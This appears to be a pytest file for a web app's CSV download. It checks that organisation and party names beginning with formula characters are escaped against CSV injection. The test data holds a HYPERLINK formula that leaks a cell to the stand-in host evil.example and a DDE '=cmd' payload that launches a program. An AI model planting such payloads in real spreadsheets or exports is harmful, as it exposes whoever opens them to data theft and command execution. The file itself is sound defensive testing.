"""CSV downloads open in a spreadsheet as text: a name cannot become a live formula.

OWASP "CSV Injection": a cell starting with = + - @ tab or carriage return is read as a
formula by Excel, LibreOffice and Google Sheets; each such cell must come out prefixed with a
single quote.
"""

from __future__ import annotations

import csv
import io

import pytest

from app.basel import operations
from app.demo.samples import complete_export
from app.extensions import db
from tests.factories import login, make_org, make_user

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def download(client) -> list[list[str]]:
    response = client.get("/cases.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True).removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def row_of(rows: list[list[str]], reference: str) -> dict[str, str]:
    header = rows[0]
    return next(dict(zip(header, r, strict=True)) for r in rows[1:] if r[0] == reference)


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_organisation_name_with_formula_prefix_is_escaped(client, app, prefix):
    name = prefix + PAYLOAD
    exporter = make_user("exporter", make_org(name=name))
    case = complete_export(exporter)
    login(client, exporter)
    row = row_of(download(client), case.reference)
    assert row["Exporter"] == "'" + name


def test_party_name_entered_in_the_form_is_escaped(client, app):
    exporter = make_user("exporter")
    case = complete_export(exporter)
    operations.save_party(case.id, "facility", 1, {"name": "=cmd|' /C calc'!A0"}, exporter,
                          case.version)
    db.session.commit()
    login(client, exporter)
    row = row_of(download(client), case.reference)
    assert row["Facility"] == "'=cmd|' /C calc'!A0"
    assert (row["Quantity"], row["Unit"]) == ("120.5", "t")  # ordinary values are left alone
